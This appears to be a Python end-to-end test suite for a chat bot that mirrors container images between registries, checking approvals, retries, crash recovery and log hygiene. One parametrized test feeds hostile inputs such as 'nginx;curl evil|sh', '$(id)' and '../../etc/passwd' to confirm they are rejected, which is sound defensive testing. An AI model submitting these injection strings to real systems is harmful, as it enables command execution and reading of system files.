"""The whole, end to end: the real process, real git, act, skopeo and registries.

People talk through the sandbox's API, and what they see is what is checked.
"""

import os
import re
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

pytestmark = pytest.mark.e2e

START_SECONDS = 40
PATIENCE_SECONDS = 40
GONE_SECONDS = 2
Message = dict[str, Any]


@dataclass(frozen=True)
class Asked:
    """A message of a person, to look for the answers to it."""

    who: str
    chat: str
    number: int


@dataclass
class Sandbox:
    process: subprocess.Popen[str]
    data: Path
    address: str
    api: httpx.Client

    def say(self, who: str, text: str, *, chat: str = "group") -> Asked:
        answer = self.api.post("/api/chat", json={"as": who, "text": text, "chat": chat})
        assert answer.status_code == 200, answer.text
        return Asked(who, chat, answer.json()["id"])

    def whisper(self, who: str, text: str) -> Asked:
        """Say it in private: the group has a limit of messages a minute, shared by all tests."""
        return self.say(who, text, chat="private")

    def press(self, who: str, message: Message, button: str) -> str:
        pressed = {"as": who, "message": message["id"], "button": button}
        answer = self.api.post("/api/press", json=pressed)
        assert answer.status_code == 200, answer.text
        return str(answer.json()["answer"])

    def messages(self, **chat: str) -> list[Message]:
        found: list[Message] = self.api.get("/api/chat", params=chat).json()["messages"]
        return found

    def answers(self, to: Asked) -> list[Message]:
        """What the bot said in reply to a message: the card first."""
        said = self.messages(chat=to.chat, **{"as": to.who})
        return [m for m in said if m["from"] == "bot" and m["reply_to"] == to.number]

    def repository(self) -> dict[str, Any]:
        found: dict[str, Any] = self.api.get("/api/repository").json()
        return found

    def digests(self, side: str) -> dict[str, str]:
        images = self.api.get("/api/registries").json()[side]["images"]
        return {image["name"]: image["digest"] for image in images}

    def target(self) -> str:
        return str(self.api.get("/api/registries").json()["target"]["address"])

    def fault(self, **fault: object) -> None:
        assert self.api.post("/api/faults", json=fault).status_code == 200

    def until(self, look: Callable[[], Any], seconds: float = PATIENCE_SECONDS) -> Any:
        deadline = time.monotonic() + seconds
        while not (found := look()):
            assert time.monotonic() < deadline, (self.messages()[-4:], self.log()[-2000:])
            time.sleep(0.1)
        return found

    def result(self, to: Asked, words: str) -> Message:
        """The reply that tells how it ended."""
        return self.until(lambda: [m for m in self.answers(to)[1:] if words in m["text"]])[0]  # type: ignore[no-any-return]

    def answer(self, who: str, text: str) -> str:
        """Say something in private, and what comes back."""
        asked = self.whisper(who, text)
        return str(self.until(lambda: self.answers(asked))[0]["text"])

    def card(self, to: Asked, words: str) -> Message:
        return self.until(lambda: [m for m in self.answers(to)[:1] if words in m["text"]])[0]  # type: ignore[no-any-return]

    def log(self) -> str:
        return (self.data / "bot.log").read_text()

    def bot(self) -> int | None:
        """The process id of the bot: the child of the sandbox that runs `imageto-bot run`."""
        for child in children(self.process.pid):
            command = Path(f"/proc/{child}/cmdline").read_text().split("\0")
            if "run" in command:
                return child
        return None


def children(parent: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
            except OSError:
                continue
            if int(stat.rpartition(")")[2].split()[1]) == parent:
                found.append(int(entry.name))
    return found


def tree(parent: int) -> set[int]:
    below = children(parent)
    return set(below).union(*(tree(child) for child in below))


def start(data: Path) -> Sandbox:
    with (data.parent / f"{data.name}.err").open("w") as errors:
        process = subprocess.Popen(
            [sys.executable, "-m", "bot", "sandbox", "--port", "0", "--data", str(data)],
            stdout=subprocess.PIPE,
            stderr=errors,
            text=True,
        )
    assert process.stdout is not None
    deadline = time.monotonic() + START_SECONDS
    for line in process.stdout:
        if ready := re.match(r"sandbox ready: (http://127\.0\.0\.1:[0-9]+)$", line):
            api = httpx.Client(base_url=ready[1], trust_env=False, timeout=20)
            return Sandbox(process, data, ready[1], api)
        assert time.monotonic() < deadline
    raise AssertionError((data.parent / f"{data.name}.err").read_text())


def stop(sandbox: Sandbox) -> set[int]:
    """End it as systemd would; what is left running of all that it started."""
    started = tree(sandbox.process.pid)
    sandbox.api.close()
    sandbox.process.send_signal(signal.SIGTERM)
    sandbox.process.wait(timeout=30)
    assert sandbox.process.stdout is not None
    sandbox.process.stdout.close()
    deadline = time.monotonic() + GONE_SECONDS
    while (left := {pid for pid in started if alive(pid)}) and time.monotonic() < deadline:
        time.sleep(0.05)
    return left


def alive(pid: int) -> bool:
    """Whether it runs; one that nobody has waited for yet does not."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return False


@pytest.fixture(scope="module")
def s(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sandbox]:
    sandbox = start(tmp_path_factory.mktemp("sandbox"))
    yield sandbox
    if sandbox.process.poll() is None:
        assert stop(sandbox) == set()


def test_an_approved_image_arrives_whole_by_one_commit_and_its_own_run(s: Sandbox) -> None:
    asked = s.whisper("wei", "/mirror docker.io/library/nginx:1.27")
    result = s.result(asked, "Done, 1 of 1")
    target = f"{s.target()}/docker.io/library/nginx:1.27"
    assert f"docker pull {target}" in result["text"]
    assert result["buttons"][0][0]["kind"] == "copy"
    (commit,) = [c for c in s.repository()["commits"] if "nginx:1.27" in c["message"]]
    assert re.search(
        r"^Batch: [0-9a-f]+\nRequest: 1\nRequested-by: telegram:1001\nApproved-by: policy$",
        commit["message"],
        re.MULTILINE,
    )
    (run,) = [run for run in s.repository()["runs"] if run["sha"] == commit["sha"]]
    assert (run["event"], run["conclusion"]) == ("push", "success")
    assert s.digests("target")[target] == s.digests("source")["docker.io/library/nginx:1.27"]
    card = s.card(asked, "digest verified")
    assert "looking it up" in card["history"][0]
    assert card["edits"] == len(card["history"])
    assert len(s.answers(asked)) == 2


def test_only_the_admin_decides_and_later_presses_hear_who_did(s: Sandbox) -> None:
    asked = s.say("wei", "/mirror gcr.io/distroless/static:nonroot")
    card = s.card(asked, "waits for an admin")
    assert re.search(r"\d platforms", card["text"])
    for who in ("mallory", "wei"):
        assert s.press(who, card, "Approve") == "Only an admin can decide this."
    assert "waits for an admin" in s.answers(asked)[0]["text"]
    assert s.press("ana", card, "Approve") == "#2: 1 image approved."
    again = s.api.post("/api/press", json={"as": "ana", "message": card["id"], "button": "Approve"})
    # The buttons may be gone from the card by now; the command hears the same.
    assert again.status_code == 404 or again.json()["answer"] == "Already approved by Ana."
    number = s.say("ana", "/approve #2")
    assert s.until(lambda: s.answers(number))[0]["text"] == "Already approved by Ana."
    s.result(asked, "Done, 1 of 1")
    assert "Approved by Ana." in s.answers(asked)[0]["text"]


def test_the_command_approves_as_the_button_does(s: Sandbox) -> None:
    asked = s.say("li", "/mirror bitnami/nginx:1.27")
    card = s.card(asked, "waits for an admin")
    number = re.match(r"#(\d+)", card["text"])
    assert number is not None
    s.say("ana", f"/approve #{number[1]}")
    s.result(asked, "Done, 1 of 1")


def test_a_missing_image_is_said_before_anything_is_committed(s: Sandbox) -> None:
    before = len(s.repository()["commits"])
    asked = s.whisper("wei", "/mirror redis:7 redis:no-such-tag")
    s.card(asked, "not found at the source")
    assert len(s.repository()["commits"]) == before
    result = s.result(asked, "Partly done, 1 of 2")
    assert "docker.io/library/redis:7" in result["text"]
    assert "redis:no-such-tag" in result["text"]
    assert "no-such-tag" not in s.repository()["list"]


def test_two_people_who_ask_for_the_same_get_one_copy_and_two_answers(s: Sandbox) -> None:
    runs = len(s.repository()["runs"])
    asked = [s.say(who, "/mirror nginx:1.26") for who in ("wei", "li")]
    for number in asked:
        s.result(number, "Done, 1 of 1")
    state = s.repository()
    assert state["list"].count("docker.io/library/nginx:1.26") == 1
    assert len(state["runs"]) == runs + 1


def test_an_image_that_is_there_is_told_without_a_commit(s: Sandbox) -> None:
    commits = len(s.repository()["commits"])
    asked = s.whisper("wei", "/mirror nginx:1.27")
    s.card(asked, "already there, same digest")
    s.result(asked, "Done, 1 of 1")
    assert len(s.repository()["commits"]) == commits


@pytest.mark.parametrize(
    "text",
    [
        "/mirror nginx;curl evil|sh",
        "/mirror $(id)",
        "/mirror " + "😀" * 1000,
        "/mirror docker.io/library/ng\n:inx",
        "/mirror ../../etc/passwd",
        "/mirror --help",
        "/mirror Nginx",
        "/mirror localhost:5000/x",
        "/mirror",
        "/approve me",
    ],
)
def test_bad_input_is_answered_in_words_and_changes_nothing(s: Sandbox, text: str) -> None:
    before = s.repository()
    assert len(s.answer("wei", text)) > 20
    assert s.repository()["list"] == before["list"]
    assert len(s.repository()["commits"]) == len(before["commits"])


def test_a_killed_bot_answers_once_after_it_is_started_again(s: Sandbox) -> None:
    s.fault(where="target", what="delay 4", path="POST /v2/")
    asked = s.whisper("li", "/mirror busybox")
    s.card(asked, "copying")
    bot = s.bot()
    assert bot is not None
    os.kill(bot, signal.SIGKILL)
    s.until(lambda: s.bot() not in {bot, None})
    s.result(asked, "Done, 1 of 1")
    time.sleep(3)
    assert len(s.answers(asked)) == 2


def test_a_commit_whose_answer_is_lost_is_not_made_twice(s: Sandbox) -> None:
    s.fault(where="github", what="lost", path="PUT /github/repos")
    before = len(s.repository()["commits"])
    asked = s.whisper("li", "/mirror alpine:3.20")
    s.result(asked, "Done, 1 of 1")
    assert len(s.repository()["commits"]) == before + 1


def test_a_run_that_never_appears_is_asked_for(s: Sandbox) -> None:
    s.fault(where="actions", what="no-run")
    asked = s.whisper("wei", "/mirror nginx:latest")
    s.result(asked, "Done, 1 of 1")
    assert "workflow_dispatch" in {run["event"] for run in s.repository()["runs"]}


def test_telegram_in_trouble_delays_the_answer_and_loses_nothing(s: Sandbox) -> None:
    s.fault(where="telegram", what="retry-after 2", path="sendMessage")
    s.fault(where="telegram", what="status 502", path="getUpdates", times=2)
    assert s.answer("wei", "/status")


def test_status_and_whoami_and_help_answer(s: Sandbox) -> None:
    for text, words in (
        ("/whoami", "Your id: 1001"),
        ("/help", "/mirror IMAGE…"),
        ("/status nginx:1.27", "docker pull"),
        ("/status", "Nothing is going on"),
    ):
        assert words in s.answer("wei", text)


def test_the_log_holds_no_secret_and_no_traceback(s: Sandbox) -> None:
    log = s.log()
    assert "Traceback" not in log
    assert "7000000001:" not in log
    assert "github_pat_" not in log


def test_two_sandboxes_run_side_by_side_and_leave_nothing_behind(
    s: Sandbox, tmp_path: Path
) -> None:
    (tmp_path / "other").mkdir()
    other = start(tmp_path / "other")
    try:
        assert other.address != s.address
        asked = other.say("wei", "/mirror nginx:1.26")
        other.result(asked, "Done, 1 of 1")
    finally:
        assert stop(other) == set()


def test_a_port_in_use_is_one_line_and_no_traceback(s: Sandbox) -> None:
    port = s.address.rpartition(":")[2]
    done = subprocess.run(
        [sys.executable, "-m", "bot", "sandbox", "--port", port],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 1
    assert f"port {port} on 127.0.0.1 cannot be used" in done.stderr
    assert "Traceback" not in done.stderr


def test_the_demo_ends_well_and_shows_every_part(tmp_path: Path) -> None:
    began = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-m", "bot", "demo", "--data", str(tmp_path / "demo")],
        capture_output=True,
        text=True,
        timeout=100,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    for words in ("/mirror nginx:1.27", "[taps Approve]", "Batch: ", "copied docker.io/library/"):
        assert words in done.stdout
    assert "All as it should be." in done.stdout
    assert time.monotonic() - began < 90
